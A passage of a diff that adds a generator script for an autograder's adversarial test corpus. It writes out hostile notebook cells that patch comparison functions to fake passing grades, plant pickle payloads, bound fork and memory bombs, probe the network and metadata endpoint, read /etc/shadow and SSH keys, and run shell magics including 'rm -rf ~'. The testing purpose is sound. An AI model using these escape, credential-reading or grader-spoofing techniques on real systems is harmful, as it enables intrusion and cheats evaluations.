@@ -1,0 +1,1311 @@
+"""Generate the hostile corpus in tests/corpus/hostile/ from the release and the master notebooks.
+
+    .venv/bin/python tests/corpus/hostile/make_hostile.py [--release assignments/<version>]
+                                                          [--solutions solutions] [--out DIR] [--only ID,ID]
+
+Every case is one folder `<id>/` holding the submission exactly as the grader receives it (an
+`<id>.ipynb`, `<id>.zip` or `<id>/` entry, copied into one SUBMISSIONS folder by the test) and an
+`expected.json`. The submissions are the RELEASED student notebooks with the master's reference
+answers pasted into every answer cell (so the exercises the attack does not target must score full
+marks), then the hostile code put into the answer cells of the exercises it attacks. Output is
+deterministic (sorted JSON, fixed zip timestamps): regenerating from the same inputs changes no byte.
+
+Hostile code must stay harmless even if the sandbox had a bug: every loop, fork, allocation and
+output is bounded; it never modifies or deletes an existing file outside its scratch folder (it
+only creates new files named `jaxgrade_*` or opens existing ones for writing without writing);
+its effects are detectable instead of damaging: marker files `/tmp/jaxgrade_<what>_<case id>` on
+the host, processes whose command line holds `jaxgrade_hostile_<case id>`, connections to a
+listener the test opens on 127.0.0.1 (one port of LISTEN_PORTS). The code reports what it found
+by raising an exception whose first line (`HOSTILE-REPORT ...`) reaches the student's feedback.
+
+expected.json (read by tests/test_hostile.py):
+  case, title, attack        what is tried (for reviewers)
+  submission                 entry name inside the case folder
+  exercises                  {exercise id: {"score": number | "full" | ">0" | "<full" | "any",
+                                            "status": str | [str] (optional)}}
+  status                     the submission status in grades.csv (str or list of str)
+  flags                      {"has": [...], "lacks": [...]}: TA flags of the result
+  feedback                   {"contains": [...], "absent": [...]}: substrings of the student's
+                             feedback.md (the only place the child's reports can reach)
+  outputs_absent             substrings that must appear in none of the student's output files
+  host_markers               host paths that must not exist after grading
+  process_markers            substrings no process command line may hold after grading
+  listener                   true: no connection may reach the test's loopback listener
+  known_weakness             non-empty: why the grader is known to fail this case today (the test
+                             marks it xfail, strict: fixing the grader turns it into a failure to update)
+  must_not                   prose: what must not happen
+"""
+
+from __future__ import annotations
+
+import argparse
+import copy
+import json
+import shutil
+import sys
+import zipfile
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+REPO = Path(__file__).resolve().parents[3]
+sys.path.insert(0, str(REPO))
+
+from autograder.exercises import CHAPTERS  # noqa: E402
+from autograder.grade.model import ReleaseInfo  # noqa: E402
+from autograder.release.masters import find_masters  # noqa: E402
+
+ZIP_TIME = (2026, 10, 1, 12, 0, 0)
+LISTEN_PORTS = (47600, 47620)  # [lo, hi): the test listens on one free port of this range
+CH02 = CHAPTERS["ch02"]
+CH05 = CHAPTERS["ch05"]
+
+# --------------------------------------------------------------------------------------------
+# Hostile cell sources. `{case}` is replaced by the case id (str.replace, so braces stay literal).
+
+PATCH_ALLCLOSE = r'''# HOSTILE {case}: make every NumPy / unittest comparison "pass", then answer wrong.
+import builtins
+import math
+import unittest
+
+import numpy
+import numpy.testing
+
+
+def _always(*args, **kwargs):
+    return True
+
+
+def _quiet(*args, **kwargs):
+    return None
+
+
+np.allclose = numpy.allclose = _always
+np.array_equal = numpy.array_equal = _always
+np.array_equiv = _always
+np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(np.asarray(a), np.asarray(b)).shape, bool)
+for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_equal",
+              "assert_almost_equal", "assert_approx_equal", "assert_array_less"):
+    setattr(numpy.testing, _name, _quiet)
+np.testing = numpy.testing
+for _name in ("assertEqual", "assertTrue", "assertAlmostEqual", "assertIn", "assertDictEqual"):
+    setattr(unittest.TestCase, _name, _quiet)
+math.isclose = _always
+
+
+class _Swallowed(Exception):
+    pass
+
+
+builtins.AssertionError = _Swallowed
+
+
+def primitive_histogram(f, *args):
+    counts = Counter()
+    for eqn in jax.make_jaxpr(f)(*args).jaxpr.eqns:  # top level only, and one too many of each
+        counts[eqn.primitive.name] += 2
+    return counts
+'''
+
+WRONG_FUSION = r'''# HOSTILE {case}: a wrong answer that only a patched comparison would accept.
+def fusion_report(f, *args):
+    return 999, 1.0
+'''
+
+WRONG_DISTANCE = r'''# HOSTILE {case}: wrong everywhere (off by one), gradients NaN at zero distance.
+def safe_pairwise_distance(X, Y):
+    diff = X[:, None, :] - Y[None, :, :]
+    return jnp.sqrt(jnp.sum(diff ** 2, axis=-1)) + 1.0
+'''
+
+PEEK = r'''# HOSTILE {case}: look through caller frames and the heap for the grader's expected values.
+import gc
+import inspect
+import sys
+
+_GRADER_MODULES = ("autograder.exercises", "autograder.grade", "autograder.observations", "otter")
+_GRADER_FUNCS = ("verdict", "reference_histogram", "measure_compiles", "_dist64", "score_outcomes")
+
+
+def _peek(args=()):
+    grader_frames, grader_objects, expected_like = [], 0, 0
+    frame, depth = sys._getframe(1), 0
+    while frame is not None and depth < 200:
+        name = frame.f_code.co_filename
+        if "/exercises/" in name or "/grade/" in name or "observations" in name:
+            grader_frames.append(name[-50:])
+        print("FRAME", name, frame.f_code.co_name, sorted(frame.f_locals)[:30])
+        frame, depth = frame.f_back, depth + 1
+    for info in inspect.stack(context=0)[:200]:
+        print("STACK", info.filename, info.function)
+    modules = sorted(m for m in list(sys.modules) if m.startswith(_GRADER_MODULES))
+    truth, control, found_control = None, None, 0
+    try:  # safe_pairwise_distance(X, Y): the distances the grader would compare against
+        a, b = np.asarray(args[0], np.float64), np.asarray(args[1], np.float64)
+        truth = np.sqrt(((a[:, None, :] - b[None, :, :]) ** 2).sum(-1))
+        control = [truth.copy()]  # planted on purpose: the scan below must find it (ctl=1)
+    except Exception:  # no arguments, or tracers under jit / grad
+        pass
+    for i, obj in enumerate(gc.get_objects()):
+        if i > 2_000_000:
+            break
+        try:
+            module = type(obj).__dict__.get("__module__")
+            if isinstance(module, str) and module.startswith(_GRADER_MODULES):
+                grader_objects += 1
+            name = getattr(obj, "__name__", "") if callable(obj) else ""
+            if isinstance(name, str) and name in _GRADER_FUNCS:
+                grader_objects += 1
+            if truth is not None and type(obj) in (dict, list, tuple):
+                for v in list(obj.values() if type(obj) is dict else obj)[:1000]:
+                    if control is not None and v is control[0]:
+                        found_control += 1
+                    elif getattr(v, "shape", None) == truth.shape and v is not truth:
+                        if np.allclose(np.asarray(v, np.float64), truth, atol=1e-3):
+                            expected_like += 1
+        except Exception:
+            pass
+    return (f"gf={len(grader_frames)} gm={len(modules)} go={grader_objects} ctl={found_control} "
+            f"ex={expected_like} frames={depth}")
+
+
+_at_cell = _peek()
+print("found while the cell ran:", _at_cell)
+
+
+def safe_pairwise_distance(X, Y):
+    raise RuntimeError("HOSTILE-REPORT {case} PEEK " + _peek((X, Y)) + " cell " + _at_cell)
+'''
+
+TRICK_HISTOGRAM = r'''# HOSTILE {case}: an empty mapping that claims to be a Counter equal to anything.
+class FakeCounter(dict):
+    __class__ = property(lambda self: Counter)  # isinstance(x, Counter) is True
+
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    __hash__ = None
+
+    def items(self):
+        return iter(())
+
+    def __len__(self):
+        return 7
+
+
+def primitive_histogram(f, *args):
+    return FakeCounter()
+'''
+
+TRICK_RECOMPILE = r'''# HOSTILE {case}: an int subclass equal to every number, posing as int.
+class SneakyInt(int):
+    __class__ = property(lambda self: int)
+
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    __hash__ = int.__hash__
+
+
+predicted_compiles = SneakyInt(0)
+'''
+
+TRICK_FUSION = r'''# HOSTILE {case}: a "tuple" whose parts equal anything.
+class Anything(float):
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    __hash__ = float.__hash__
+
+
+class FakePair(tuple):
+    __class__ = property(lambda self: tuple)
+
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    __hash__ = tuple.__hash__
+
+
+def fusion_report(f, *args):
+    return FakePair((Anything(0.0), Anything(0.0)))
+'''
+
+TRICK_DISTANCE = r'''# HOSTILE {case}: an object equal to everything whose __array__ holds NaN.
+class Chameleon:
+    __array_priority__ = 1e9
+
+    def __init__(self, shape):
+        self.shape = shape
+        self.dtype = np.dtype(np.float32)
+
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    __hash__ = None
+
+    def __array__(self, dtype=None, copy=None):
+        return np.full(self.shape, np.nan, np.float32)
+
+
+def safe_pairwise_distance(X, Y):
+    return Chameleon((X.shape[0], Y.shape[0]))
+'''
+
+PICKLE = r'''# HOSTILE {case}: pickles with a malicious __reduce__ wherever a naive grader might unpickle.
+import glob
+import io
+import json
+import os
+import pickle
+
+
+class Pwn:
+    def __reduce__(self):
+        return (os.mkdir, ("/tmp/jaxgrade_pwned_{case}",))
+
+
+_payload = pickle.dumps(Pwn())
+_evil_npy = io.BytesIO()
+np.save(_evil_npy, np.array([Pwn(), Pwn()], dtype=object), allow_pickle=True)
+_planted = []
+for _dir in ("/sandbox/scratch/obs", "/sandbox/scratch", "/sandbox/scratch/work", "."):
+    for _name, _data in (("observations.pkl", _payload), ("histogram.pkl", _payload),
+                         ("results.pkl", _payload), ("evil.npy", _evil_npy.getvalue()),
+                         ("histogram.0.npy", _evil_npy.getvalue()),
+                         ("recompile.0.npy", _evil_npy.getvalue())):
+        try:
+            with open(os.path.join(_dir, _name), "wb") as _f:
+                _f.write(_data)
+            _planted.append(_name)
+        except OSError:
+            pass
+
+_real_exit = os._exit
+
+
+def _forge_then_exit(code):
+    """child_main ends with os._exit: rewrite every observation file to point at the pickles."""
+    for path in glob.glob("/sandbox/scratch/obs/*.json")[:50]:
+        try:
+            doc = {"format": 1, "exercise": os.path.basename(path)[:-5],
+                   "values": {"defined": {"npy": "evil.npy"}, "value": {"npy": "evil.npy"},
+                              "entries": {"npy": "evil.npy"}, "__tampered__": {"json": []},
+                              "pickle": {"pickle": _payload.hex()}}}
+            with open(path, "w") as f:
+                json.dump(doc, f)
+        except Exception:
+            pass
+    _real_exit(code)
+
+
+os._exit = _forge_then_exit
+
+
+def primitive_histogram(f, *args):
+    return {"sin": Pwn(), "cos": Pwn()}
+
+
+class PickleIsh:
+    def __reduce__(self):
+        return (os.mkdir, ("/tmp/jaxgrade_pwned_{case}",))
+
+    def __array__(self, dtype=None, copy=None):
+        return np.array([[Pwn()]], dtype=object)
+
+
+def safe_pairwise_distance(X, Y):
+    return PickleIsh()
+
+
+print("planted", len(_planted), "pickles")
+'''
+
+OS_EXIT = r'''# HOSTILE {case}: leave the whole process without any cleanup in the middle of the chapter.
+import os
+
+def fusion_report(f, *args):
+    compiled = jax.jit(f).lower(*args).compile()
+    return count_fusions(compiled.as_text()), compiled.cost_analysis()["bytes accessed"]
+
+
+os._exit(0)
+'''
+
+SIGTERM_LOOP = r'''# HOSTILE {case}: ignore SIGTERM/SIGINT/SIGHUP and spin forever.
+import signal
+
+for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
+    signal.signal(_sig, signal.SIG_IGN)
+predicted_compiles = 4
+while True:
+    pass
+'''
+
+FORK_BOMB = r'''# HOSTILE {case}: fork as much as the limits allow (bounded), every child sleeping a while.
+import os
+import time
+
+_born, _refused = 0, 0
+for _i in range(200):
+    try:
+        _pid = os.fork()
+    except OSError:
+        _refused += 1
+        if _refused > 10:
+            break
+        continue
+    if _pid == 0:
+        try:
+            for _j in range(2):
+                if os.fork() == 0:
+                    os.execv("/bin/sh", ["sh", "-c", "sleep 300; : jaxgrade_hostile_{case}"])
+        except OSError:
+            pass
+        try:
+            os.execv("/bin/sh", ["sh", "-c", "sleep 300; : jaxgrade_hostile_{case}"])
+        finally:
+            os._exit(0)
+    _born += 1
+print("forked", _born, "refused", _refused)
+'''
+
+MEMORY_BOMB = r'''# HOSTILE {case}: allocate until refused (at most 64 x 256 MiB, 256 MiB touched).
+def safe_pairwise_distance(X, Y):
+    hog = []
+    for i in range(64):
+        block = np.zeros(256 * 2**20, np.uint8)  # calloc: pages cost nothing until touched
+        if i == 0:
+            block[::4096] = 1  # really use the first block
+        hog.append(block)
+    return jnp.zeros((X.shape[0], Y.shape[0]), jnp.float32)
+'''
+
+DAEMON = r'''# HOSTILE {case}: a double-forked daemon in its own session (bounded: 300 s).
+import os
+
+_pid = os.fork()
+if _pid == 0:
+    try:
+        os.setsid()
+        if os.fork() == 0:
+            with open("/sandbox/scratch/work/daemon.pid", "w") as _f:
+                _f.write(str(os.getpid()))
+            os.execv("/bin/sh", ["sh", "-c", "i=0; while [ $i -lt 300 ]; do "
+                                 "echo JAXGRADE-HOSTILE > /tmp/jaxgrade_daemon_{case} 2>/dev/null; "
+                                 "i=$((i+1)); sleep 1; done; : jaxgrade_hostile_{case}"])
+    finally:
+        os._exit(0)
+os.waitpid(_pid, 0)
+predicted_compiles = 4
+'''
+
+NETWORK = r'''# HOSTILE {case}: reach the grader's host over the network (loopback and outside).
+import errno
+import socket
+
+_report = {}
+
+
+def _try(key, family, kind, addr, payload=b"JAXGRADE-HOSTILE {case}\n"):
+    s = None
+    try:
+        s = socket.socket(family, kind)
+        s.settimeout(1.0)
+        if kind == socket.SOCK_DGRAM:
+            s.sendto(payload, addr)
+            _report[key] = "sent"
+        else:
+            s.connect(addr)
+            s.sendall(payload)
+            _report[key] = "CONNECTED"
+    except OSError as exc:
+        _report.setdefault(key, errno.errorcode.get(exc.errno or 0, type(exc).__name__))
+    finally:
+        if s is not None:
+            s.close()
+
+
+for _port in range(LO, HI):
+    _try("lo", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", _port))
+    _try("udp", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", _port))
+    _try("lo6", socket.AF_INET6, socket.SOCK_STREAM, ("::1", _port, 0, 0))
+for _addr in (("1.1.1.1", 53), ("8.8.8.8", 443), ("10.0.2.2", 80), ("169.254.169.254", 80)):
+    _try("ext", socket.AF_INET, socket.SOCK_STREAM, _addr)
+for _path in ("/run/docker.sock", "/var/run/docker.sock", "/run/systemd/private",
+              "/run/dbus/system_bus_socket"):
+    _try("unix", socket.AF_UNIX, socket.SOCK_STREAM, _path)
+try:
+    socket.getaddrinfo("example.com", 80)
+    _report["dns"] = "RESOLVED"
+except OSError as exc:
+    _report["dns"] = type(exc).__name__
+predicted_compiles = 4
+_connected = sorted(k for k, v in _report.items() if v in ("CONNECTED", "RESOLVED"))
+raise RuntimeError("HOSTILE-REPORT {case} NET connected=" + (",".join(_connected) or "none") + " "
+                   + str(_report))
+'''
+
+ESCAPE = r'''# HOSTILE {case}: find the grader's files (repo, OUT, SUBMISSIONS) and read or write them.
+import glob
+import os
+import re
+import sys
+
+_guesses = {"/work/main", os.path.dirname(sys.prefix), os.path.dirname(os.path.dirname(sys.prefix)),
+            os.getcwd(), os.path.expanduser("~")}
+for _sp in sys.path:  # the editable install names the repository
+    for _finder in glob.glob(os.path.join(_sp, "__editable__*finder.py"))[:5]:
+        try:
+            _guesses.update(re.findall(r"'(/[^']+?)/autograder'", open(_finder).read()))
+        except OSError:
+            pass
+_host_paths = set()
+for _proc in ("/proc/1/cmdline", "/proc/self/cmdline", "/proc/1/environ"):  # bwrap's own command line
+    try:
+        _host_paths.update(p for p in open(_proc, "rb").read().decode(errors="replace").split("\0")
+                           if p.startswith("/") and len(p) < 300)
+    except OSError:
+        pass
+try:
+    for _line in open("/proc/self/mountinfo"):
+        _host_paths.add(_line.split()[3])
+except OSError:
+    pass
+_guesses.update(p for p in _host_paths if not p.startswith(("/usr", "/proc", "/dev", "/sys", "/sandbox")))
+_guesses.update(glob.glob("/tmp/pytest-of-*/*/*")[:50])
+_guesses.update(glob.glob("/tmp/jaxgrade*")[:20])
+
+_secrets = ["/etc/shadow", "/root/.ssh/id_rsa", "/root/.bash_history", "/proc/1/environ",
+            "/proc/1/root/etc/shadow"]
+for _g in sorted(_guesses):
+    for _pattern in ("autograder/exercises/*.py", "autograder/grade/*.py", "solutions/*.ipynb",
+                     "assignments/*/tests/*.py", "assignments/*/manifest.json", "tests/corpus/hostile/*/*",
+                     "examples/submissions/*", "*/*.ipynb", "*.ipynb", "*/results.json", "grades.csv",
+                     "gradebook.sqlite", ".git/config"):
+        _secrets.extend(glob.glob(os.path.join(_g, _pattern))[:20])
+    _secrets.append(os.path.join(_g, "autograder", "exercises", "silu_ffi.py"))
+    _secrets.append(os.path.join(_g, "solutions", "ch02_performance.ipynb"))
+_read = []
+for _p in sorted(set(_secrets))[:400]:
+    try:
+        with open(_p, "rb") as _f:
+            if _f.read(64):
+                _read.append(_p)
+    except OSError:
+        pass
+for _name in ("autograder.exercises.safe_distance", "autograder.grade.runner", "autograder.observations"):
+    try:
+        __import__(_name)
+        _read.append("import:" + _name)
+    except Exception:
+        pass
+
+_PRIVATE = ("/sandbox/scratch", "/tmp", "/dev/shm")
+_targets = ["../grades.csv", "../../grades.csv", "../../../grades.csv", "results.json", "../results.json",
+            "../../results.json", "../../../results.json", "../gradebook.sqlite",
+            "/out/grades.csv", "/grades.csv", "/results.json", "/autograder/results/results.json",
+            "/sandbox/grades.csv", "/sandbox/lib/jaxgrade_hostile_{case}",
+            "/sandbox/.exec/jaxgrade_hostile_{case}", "/tmp/jaxgrade_escape_{case}",
+            "/var/tmp/jaxgrade_escape_{case}", "/dev/shm/jaxgrade_escape_{case}"]
+for _g in sorted(_guesses):
+    for _sub in ("", "autograder", "autograder/exercises", "assignments", "out", "solutions", ".venv"):
+        _targets.append(os.path.join(_g, _sub, "jaxgrade_hostile_{case}.txt"))
+_escaped, _inside = [], 0
+for _t in _targets[:400]:
+    _real = os.path.realpath(_t)
+    try:  # only ever CREATE a new file: harmless even if the sandbox leaked
+        _fd = os.open(_t, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)
+        os.write(_fd, b"JAXGRADE-HOSTILE {case}\n")
+        os.close(_fd)
+    except FileExistsError:
+        try:  # an existing file: open it for writing, write nothing
+            open(_t, "r+b").close()
+        except OSError:
+            continue
+    except OSError:
+        continue
+    if _real.startswith(_PRIVATE):
+        _inside += 1
+    else:
+        _escaped.append(_real)
+for _p in sorted(_secrets)[:200]:  # existing grader files: writable without writing?
+    if os.path.isfile(_p) and os.access(_p, os.W_OK) and not os.path.realpath(_p).startswith(_PRIVATE):
+        _escaped.append("w:" + _p)
+raise RuntimeError(f"HOSTILE-REPORT {case} ESCAPE read={len(_read)} escaped={len(_escaped)} inside={_inside} "
+                   f"guesses={len(_guesses)} first={(_read + _escaped)[:3]}")
+'''
+
+HUGE_OUTPUT = r'''# HOSTILE {case}: about 200 MB of output (print, raw fd 1 and 2) and a 20 MB error.
+import os
+import sys
+
+_chunk = ("JAXGRADE-HOSTILE {case} " * 4000 + "\n")
+for _i in range(600):
+    print(_chunk, end="")
+    sys.stderr.write(_chunk)
+_raw = _chunk.encode()
+for _i in range(700):
+    os.write(1, _raw)
+    os.write(2, _raw)
+predicted_compiles = 4
+raise RuntimeError("x" * 20_000_000)
+'''
+
+KERNEL_HEAD = r'''%%writefile silu.cc
+// HOSTILE {case}
+#include <cmath>
+#include <csignal>
+#include <cstdint>
+#include <cstdio>
+#include <unistd.h>
+
+#include "xla/ffi/api/ffi.h"
+
+namespace ffi = xla::ffi;
+'''
+
+KERNEL_TAIL = r'''
+XLA_FFI_DEFINE_HANDLER_SYMBOL(Silu, SiluImpl,
+                              ffi::Ffi::Bind().Arg<ffi::Buffer<ffi::F32>>().Ret<ffi::Buffer<ffi::F32>>());
+
+XLA_FFI_DEFINE_HANDLER_SYMBOL(SiluBwd, SiluBwdImpl,
+                              ffi::Ffi::Bind()
+                                  .Arg<ffi::Buffer<ffi::F32>>()
+                                  .Arg<ffi::Buffer<ffi::F32>>()
+                                  .Ret<ffi::Buffer<ffi::F32>>());
+'''
+
+KERNEL_SEGFAULT = KERNEL_HEAD + r'''
+// Both handlers crash the process the moment XLA calls them.
+static ffi::Error SiluImpl(ffi::Buffer<ffi::F32> x, ffi::ResultBuffer<ffi::F32> y) {
+  volatile int* nowhere = nullptr;
+  *nowhere = 42;
+  std::raise(SIGSEGV);
+  return ffi::Error::Success();
+}
+
+static ffi::Error SiluBwdImpl(ffi::Buffer<ffi::F32> x, ffi::Buffer<ffi::F32> ct,
+                              ffi::ResultBuffer<ffi::F32> out) {
+  volatile int* nowhere = nullptr;
+  *nowhere = 43;
+  std::raise(SIGSEGV);
+  return ffi::Error::Success();
+}
+''' + KERNEL_TAIL
+
+KERNEL_HANG = KERNEL_HEAD + r'''
+// Both handlers never return (a volatile counter, so the loop cannot be optimised away).
+static ffi::Error SiluImpl(ffi::Buffer<ffi::F32> x, ffi::ResultBuffer<ffi::F32> y) {
+  volatile uint64_t spins = 0;
+  for (;;) spins = spins + 1;
+  return ffi::Error::Success();
+}
+
+static ffi::Error SiluBwdImpl(ffi::Buffer<ffi::F32> x, ffi::Buffer<ffi::F32> ct,
+                              ffi::ResultBuffer<ffi::F32> out) {
+  volatile uint64_t spins = 0;
+  for (;;) spins = spins + 1;
+  return ffi::Error::Success();
+}
+''' + KERNEL_TAIL
+
+KERNEL_CTOR = KERNEL_HEAD + r'''
+// A correct SiLU whose library constructor tries to write files everywhere and start a daemon.
+__attribute__((constructor)) static void jaxgrade_hostile_ctor() {
+  const char* paths[] = {"/tmp/jaxgrade_ctor_{case}", "/var/tmp/jaxgrade_ctor_{case}",
+                         "/dev/shm/jaxgrade_ctor_{case}", "/work/main/jaxgrade_ctor_{case}",
+                         "/work/main/autograder/jaxgrade_ctor_{case}",
+                         "/work/main/assignments/jaxgrade_ctor_{case}",
+                         "../../jaxgrade_ctor_{case}", "../../../jaxgrade_ctor_{case}",
+                         "/sandbox/lib/jaxgrade_ctor_{case}", "/jaxgrade_ctor_{case}"};
+  for (const char* p : paths) {
+    FILE* f = std::fopen(p, "wx");  // create only: never touches an existing file
+    if (f != nullptr) {
+      std::fputs("JAXGRADE-HOSTILE {case}\n", f);
+      std::fclose(f);
+    }
+  }
+  if (fork() == 0) {
+    setsid();
+    execl("/bin/sh", "sh", "-c", "sleep 120; : jaxgrade_hostile_{case}", static_cast<char*>(nullptr));
+    _exit(0);
+  }
+}
+
+namespace {
+
+float StableSigmoid(float v) {
+  if (v >= 0.0f) return 1.0f / (1.0f + std::exp(-v));
+  const float e = std::exp(v);
+  return e / (1.0f + e);
+}
+
+}  // namespace
+
+static ffi::Error SiluImpl(ffi::Buffer<ffi::F32> x, ffi::ResultBuffer<ffi::F32> y) {
+  const float* in = x.typed_data();
+  float* out = y->typed_data();
+  const int64_t n = static_cast<int64_t>(x.element_count());
+  for (int64_t i = 0; i < n; ++i) out[i] = in[i] * StableSigmoid(in[i]);
+  return ffi::Error::Success();
+}
+
+static ffi::Error SiluBwdImpl(ffi::Buffer<ffi::F32> x, ffi::Buffer<ffi::F32> ct_y,
+                              ffi::ResultBuffer<ffi::F32> ct_x) {
+  const float* in = x.typed_data();
+  const float* g = ct_y.typed_data();
+  float* out = ct_x->typed_data();
+  const int64_t n = static_cast<int64_t>(x.element_count());
+  for (int64_t i = 0; i < n; ++i) {
+    const float s = StableSigmoid(in[i]);
+    out[i] = g[i] * s * (1.0f + in[i] * (1.0f - s));
+  }
+  return ffi::Error::Success();
+}
+''' + KERNEL_TAIL
+
+KERNEL_INCLUDE = r'''%%writefile silu.cc
+// HOSTILE {case}: which files can the compiler see, then include grader files into the kernel.
+#if __has_include("kernel.cc")
+#warning "VISIBLE own-source (expected)"
+#endif
+#if __has_include("/etc/shadow")
+#warning "VISIBLE /etc/shadow"
+#endif
+#if __has_include("/etc/passwd")
+#warning "VISIBLE /etc/passwd"
+#endif
+#if __has_include("/work/main/autograder/exercises/silu_ffi.py")
+#warning "VISIBLE repo hidden checks (absolute)"
+#endif
+#if __has_include(<../../../../../../autograder/exercises/silu_ffi.py>)
+#warning "VISIBLE repo hidden checks (from the jaxlib include folder)"
+#endif
+#if __has_include("../../../autograder/exercises/silu_ffi.py")
+#warning "VISIBLE repo hidden checks (relative)"
+#endif
+#if __has_include("/work/main/solutions/ch05_interop.ipynb")
+#warning "VISIBLE master notebook"
+#endif
+#include "../../../autograder/exercises/silu_ffi.py"
+#include </work/main/autograder/exercises/silu_ffi.py>
+#include "/etc/shadow"
+'''
+
+TAMPER_HISTOGRAM = r'''# HOSTILE {case}: replace jax.make_jaxpr with a fake (the answer above stays correct).
+_real_make_jaxpr = jax.make_jaxpr
+
+
+def _fake_make_jaxpr(fun, *args, **kwargs):
+    return _real_make_jaxpr(fun, *args, **kwargs)
+
+
+jax.make_jaxpr = _fake_make_jaxpr
+'''
+
+TAMPER_FUSION = r'''# HOSTILE {case}: fake the compiled HLO text and make jax.jit a no-op.
+import jax.stages
+
+jax.stages.Compiled.as_text = lambda self, *args, **kwargs: "fusion.1 = fusion\nfusion.2 = fusion\n"
+jax.jit = lambda fun, *args, **kwargs: fun
+'''
+
+METADATA_NOTE = "# HOSTILE {case}: a cell claiming to be the setup (never run)\nimport os\nos._exit(3)\n"
+SELFCHECK_NOTE = "# HOSTILE {case}: a 'self-check' the grader must skip\nimport os\nos._exit(4)\n"
+
+MAGICS = r'''# HOSTILE {case}: shell escapes and IPython magics.
+import os
+
+if os.environ.get("HOME", "").startswith("/sandbox/"):  # never outside a sandbox, even a broken one
+    !rm -rf ~
+!curl -sS -m 3 https://example.com -o /dev/null || echo curl failed
+!wget -q -T 3 -O /dev/null http://example.com || echo wget failed
+!echo JAXGRADE-HOSTILE > /tmp/jaxgrade_magic_{case}
+!cat /etc/shadow 2>&1 | head -c 200
+%env
+%env HOME=/
+_who = !id
+_listing = !ls -la / /work /root 2>&1
+%sx sh -c 'for i in 1 2 3; do echo $i; done'
+get_ipython().system("touch /jaxgrade_magic_{case} 2>/dev/null || true")
+predicted_compiles = 4
+'''
+
+MAGICS_BASH = r'''%%bash
+# HOSTILE {case}: a bash cell
+echo "JAXGRADE-HOSTILE {case}" > "$HOME/../jaxgrade_magic_{case}" 2>/dev/null || true
+for i in $(seq 1 50); do sh -c 'sleep 200; : jaxgrade_hostile_{case}' >/dev/null 2>&1 & done
+ls -la /sandbox /sandbox/scratch 2>&1 | head -n 20
+'''
+
+SYMLINKS = r'''# HOSTILE {case}: links and a FIFO in scratch, named like the files the parent reads.
+import json
+import os
+
+_OBS = "/sandbox/scratch/obs"
+_done = []
+
+
+def _plant(fn, *args):
+    try:
+        fn(*args)
+        _done.append(args[-1].rsplit("/", 1)[-1])
+    except OSError:
+        pass
+
+
+for _name in ("recompile.json", "fusion.json", "safe_distance.json", "histogram.0.npy", "recompile.0.npy"):
+    _plant(os.symlink, "/etc/passwd", os.path.join(_OBS, _name))
+_plant(os.symlink, "/etc/shadow", os.path.join(_OBS, "evil.npy"))
+_plant(os.symlink, "/proc/self/fd/0", "/sandbox/scratch/inputs/safe_distance.json")
+# progress.jsonl: the parent follows it while the child runs. A FIFO nobody writes would block an
+# open(); a link to the parent's own stdin would block a read.
+_plant(os.rename, "/sandbox/scratch/progress.jsonl", "/sandbox/scratch/progress.old")
+_plant(os.mkfifo, "/sandbox/scratch/progress.jsonl")
+_plant(os.symlink, "/proc/self/fd/0", "/sandbox/scratch/work/progress.jsonl")
+print("planted", _done)
+predicted_compiles = 4
+'''
+
+POISON = r'''# HOSTILE {case}: poison sys.modules and plant modules the grader might import later.
+import sys
+import types
+
+for _name, _text in (("numpy.py", "raise SystemExit('JAXGRADE-HOSTILE {case}')\n"),
+                     ("json.py", "raise SystemExit('JAXGRADE-HOSTILE {case}')\n"),
+                     ("sitecustomize.py", "import os; os._exit(5)\n"),
+                     ("usercustomize.py", "import os; os._exit(5)\n")):
+    for _dir in (".", "/sandbox/scratch", "/sandbox/scratch/work", "/sandbox/scratch/tmp"):
+        try:
+            with open(f"{_dir}/{_name}", "x") as _f:
+                _f.write(_text)
+        except OSError:
+            pass
+_fake_np = types.ModuleType("numpy")
+_fake_np.save = lambda *args, **kwargs: None
+_fake_np.asarray = lambda value, *args, **kwargs: value
+_fake_np.allclose = lambda *args, **kwargs: True
+sys.modules["numpy"] = _fake_np
+_fake_json = types.ModuleType("json")
+_fake_json.dumps = lambda *args, **kwargs: '{"format": 1, "values": {}}'
+sys.modules["json"] = _fake_json
+'''
+
+
+FORGE = r"""# HOSTILE {case}: no callback at all (JAX's own lgamma / digamma), then, after the child's last
+# flush, edit the observation file in place (its token stays) so the structure looks like pure_callback.
+import json
+import os
+
+
+@jax.custom_jvp
+def gammaln_cb(x):
+    return jax.scipy.special.gammaln(x)
+
+
+@gammaln_cb.defjvp
+def _gammaln_cb_jvp(primals, tangents):
+    (x,), (x_dot,) = primals, tangents
+    return gammaln_cb(x), jax.scipy.special.digamma(x) * x_dot
+
+
+_real_exit = os._exit
+
+
+def _forge_then_exit(code):
+    path = "/sandbox/scratch/obs/gammaln_callback.json"
+    try:
+        with open(path) as f:
+            doc = json.load(f)
+        doc["values"]["jaxpr.forward"] = {"json": ["pure_callback"]}
+        doc["values"]["jaxpr.tangent"] = {"json": ["pure_callback", "mul"]}
+        doc["values"]["__tampered__"] = {"json": []}
+        with open(path, "w") as f:
+            json.dump(doc, f)
+    except Exception:
+        pass
+    _real_exit(code)
+
+
+os._exit = _forge_then_exit
+"""
+
+
+# --------------------------------------------------------------------------------------------
+# Building notebooks
+
+
+def solved(released: dict[str, Any], answers: dict[str, list[str]]) -> dict[str, Any]:
+    """A copy of a released notebook with the master's answer sources pasted into its answer cells."""
+    nb = copy.deepcopy(released)
+    seen: dict[str, int] = {}
+    for cell in nb["cells"]:
+        jg = cell.get("metadata", {}).get("jaxgrade") or {}
+        if cell["cell_type"] != "code" or jg.get("role") != "answer":
+            continue
+        ex = jg["exercise"]
+        k = seen.get(ex, 0)
+        seen[ex] = k + 1
+        sources = answers.get(ex, [])
+        if k >= len(sources):
